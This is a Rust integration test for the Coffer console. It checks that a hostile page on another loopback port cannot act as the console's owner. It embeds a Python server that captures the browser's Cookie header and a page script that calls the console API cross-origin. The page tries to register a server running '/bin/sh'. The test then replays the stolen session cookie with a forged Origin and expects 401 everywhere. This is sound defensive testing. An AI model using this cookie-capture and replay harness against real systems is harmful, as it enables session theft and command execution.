//! Issue 32 part 1: a page served from another loopback port, by another uid, cannot act as
//! the console's owner. The real headless Chromium signs in to the console, then visits the
//! hostile page: its server (a `python3 http.server` run as uid 65534) captures the Cookie
//! header the browser sends it (cookies are not port-scoped: the leak is real), and its script
//! tries the console API from the page. The test then replays the captured cookie with the
//! console's own `Origin` on reads, writes (registering a server that would run `/bin/sh`),
//! the console's routes and its event streams: every one is refused with 401, and nothing
//! changed. The console itself keeps working (its key is in its own origin's storage).
use std::io::BufRead as _;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::{Context, ensure};
use coffer_tests::browser::Browser;
use coffer_tests::console::client;
use coffer_tests::hostile::as_other_user;
use coffer_tests::mcp::{McpSession, register_tiny};
use coffer_tests::{Api, SendExt, TestHome, wait_for};
use reqwest::Method;
use serde_json::{Value, json};

/// The hostile page's server: prints `COOKIE <header>` for every request and `REPORT <body>`
/// for what the page's script posts back; serves the page at `/`. Arguments: its port and the
/// console's origin.
const SERVER: &str = r#"
import http.server, sys
port, console = int(sys.argv[1]), sys.argv[2]
PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>hostile</title></head><body>
<p id="s">working</p><script>
(async () => {
  const api = CONSOLE;
  const out = {tried: []};
  const attempts = [
    ['GET', '/v1/status'], ['GET', '/v1/ui/session'], ['POST', '/v1/ui/stream-tickets'],
    ['POST', '/v1/mcp/servers', JSON.stringify({name: 'evil', command: '/bin/sh', args: ['-c', 'id > /tmp/coffer-evil-page']})],
  ];
  for (const [method, path, body] of attempts) {
    for (const mode of ['cors', 'no-cors']) {
      try {
        const r = await fetch(api + path, {method, mode, credentials: 'include', body,
          headers: body ? {'Content-Type': 'text/plain'} : {}});
        out.tried.push(`${mode} ${method} ${path} -> ${r.status} ${mode === 'cors' ? await r.text() : ''}`);
      } catch (e) { out.tried.push(`${mode} ${method} ${path} -> ${e}`); }
    }
  }
  await new Promise((done) => {
    const es = new EventSource(api + '/v1/invocations/events', {withCredentials: true});
    es.onopen = () => { out.tried.push('EventSource opened'); es.close(); done(); };
    es.onerror = () => { out.tried.push('EventSource refused'); es.close(); done(); };
  });
  try { out.key = localStorage.getItem('coffer.sessionKey'); } catch (e) { out.key = String(e); }
  out.cookie = document.cookie;
  await fetch('/report', {method: 'POST', body: JSON.stringify(out)});
  document.getElementById('s').textContent = 'done';
})();
</script></body></html>""".replace("CONSOLE", repr(console))

class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass
    def capture(self):
        print("COOKIE", self.headers.get("Cookie", ""), flush=True)
    def do_GET(self):
        self.capture()
        body = PAGE.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def do_POST(self):
        self.capture()
        n = int(self.headers.get("Content-Length", "0"))
        print("REPORT", self.rfile.read(n).decode(), flush=True)
        self.send_response(204)
        self.end_headers()

http.server.HTTPServer(("127.0.0.1", port), H).serve_forever()
"#;

/// The hostile server's process, killed on drop, and the lines it printed.
struct Hostile {
    child: std::process::Child,
    lines: Arc<Mutex<Vec<String>>>,
}

impl Drop for Hostile {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Hostile {
    fn start(port: u16, console: &str) -> anyhow::Result<Self> {
        // The hostile user's own process: not a Coffer child, so not through coffer_runtime::spawn.
        #[allow(clippy::disallowed_methods)]
        let mut cmd = std::process::Command::new("/usr/bin/python3");
        cmd.arg("-c").arg(SERVER).arg(port.to_string()).arg(console);
        cmd.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::inherit());
        let mut child = as_other_user(&mut cmd).spawn().context("starting the hostile server")?;
        let out = child.stdout.take().context("stdout")?;
        let lines = Arc::new(Mutex::new(Vec::new()));
        let sink = lines.clone();
        std::thread::spawn(move || {
            for line in std::io::BufReader::new(out).lines().map_while(Result::ok) {
                sink.lock().expect("lines").push(line);
            }
        });
        Ok(Self { child, lines })
    }

    fn lines(&self) -> Vec<String> {
        self.lines.lock().expect("lines").clone()
    }
}

/// Servers, credentials and settings, read with the token.
async fn state(api: &Api) -> anyhow::Result<Vec<Value>> {
    let mut out = Vec::new();
    for path in ["/v1/mcp/servers", "/v1/credentials", "/v1/settings"] {
        out.push(api.get(path).reply().await?.ok_json()?);
    }
    Ok(out)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_on_another_port_gets_the_cookie_but_cannot_act() -> anyhow::Result<()> {
    let home = TestHome::new()?;
    let api = home.start_daemon().await?;
    register_tiny(&api, "tiny", json!({})).await?;
    let console = format!("http://127.0.0.1:{}", api.port());
    let port = coffer_tests::ports::free_port();
    let hostile = Hostile::start(port, &console)?;
    let page = format!("http://127.0.0.1:{port}/");
    wait_for("the hostile server", Duration::from_secs(20), || async {
        Ok(client().get(&page).send().await.ok().filter(|r| r.status() == 200).map(drop))
    })
    .await?;

    // The owner signs in; the console lists the servers and streams the activity live.
    let b = Browser::start().await?;
    b.login(api.base_url(), api.token(), "servers").await?;
    b.wait_for_text("#page", "tiny").await?;
    b.goto("/ui/activity").await?;
    b.wait_for_page("activity").await?;
    b.wait_for(".live-state .badge.ok").await?;
    let mcp = McpSession::latest(&api).await?;
    mcp.tool("tiny__echo", json!({"message": "hello"})).await?;
    b.wait_for_text("tbody tr", "tiny__echo").await?;
    let cookies = b.cookies().await?;
    let session = cookies.iter().find(|c| c["name"] == "coffer_session").context("no session cookie")?;
    let value = session["value"].as_str().context("cookie value")?.to_owned();
    let before = state(&api).await?;

    // The owner's browser visits the hostile page.
    b.allow_origin(&format!("http://127.0.0.1:{port}"))?;
    b.goto(&page).await?;
    let report = wait_for("the hostile page's report", Duration::from_secs(30), || async {
        Ok(hostile.lines().iter().find_map(|l| l.strip_prefix("REPORT ").map(str::to_owned)))
    })
    .await?;
    let report: Value = serde_json::from_str(&report)?;
    let captured: Vec<String> =
        hostile.lines().iter().filter_map(|l| l.strip_prefix("COOKIE ").map(str::to_owned)).collect();
    // The leak the fix assumes: the cookie reached the other port.
    let leaked = captured.iter().find(|c| c.contains(&format!("coffer_session={value}"))).cloned();
    let leaked = leaked.with_context(|| format!("the cookie did not reach the other port: {captured:?}"))?;
    // But the key did not: another origin's storage is not the console's.
    ensure!(report["key"].is_null(), "the hostile page read a key: {report}");
    ensure!(!report.to_string().contains(&value), "the page's script saw the cookie: {report}");
    let tried = report["tried"].as_array().context("tried")?;
    ensure!(!tried.iter().any(|t| t == "EventSource opened"), "{report}");
    ensure!(
        !tried.iter().any(|t| t.as_str().is_some_and(|t| t.contains("-> 200") || t.contains("-> 201"))),
        "{report}"
    );

    // The hostile user replays the captured cookie with the console's own Origin.
    let cookie =
        leaked.split(';').map(str::trim).find(|p| p.starts_with("coffer_session=")).context("cookie pair")?.to_owned();
    let evil = json!({"name": "evil", "command": "/bin/sh", "args": ["-c", "id > /tmp/coffer-evil-replay"]});
    let attempts: Vec<(Method, &str, Option<Value>)> = vec![
        (Method::POST, "/v1/mcp/servers", Some(evil)),
        (Method::GET, "/v1/status", None),
        (Method::GET, "/v1/credentials", None),
        (Method::PUT, "/v1/credentials/evil", Some(json!({"value": "x"}))),
        (Method::PATCH, "/v1/settings", Some(json!({"set": {"ui.login_code_ttl_s": "600"}}))),
        (Method::DELETE, "/v1/mcp/servers/tiny", None),
        (Method::POST, "/v1/ui/stream-tickets", None),
        (Method::GET, "/v1/invocations/events", None),
        (Method::GET, "/v1/logs/gateway?follow=true&n=1", None),
        (
            Method::GET,
            "/v1/invocations/events?ticket=0000000000000000000000000000000000000000000000000000000000000000",
            None,
        ),
    ];
    for (method, path, body) in attempts {
        let rb = client().request(method.clone(), api.url(path)).header("Cookie", &cookie).header("Origin", &console);
        let r = match &body {
            Some(b) => rb.json(b).reply().await?,
            None => rb.reply().await?,
        };
        r.expect_envelope(401, "UNAUTHORIZED").with_context(|| format!("replayed {method} {path}"))?;
    }
    ensure!(state(&api).await? == before, "the hostile requests changed something");
    for f in ["/tmp/coffer-evil-page", "/tmp/coffer-evil-replay"] {
        ensure!(!std::path::Path::new(f).exists(), "{f}: the hostile command ran");
    }

    // The owner's console still works.
    b.goto("/ui/servers").await?;
    b.wait_for_text("#page", "tiny").await?;
    drop(hostile);
    b.close().await?;
    Ok(())
}
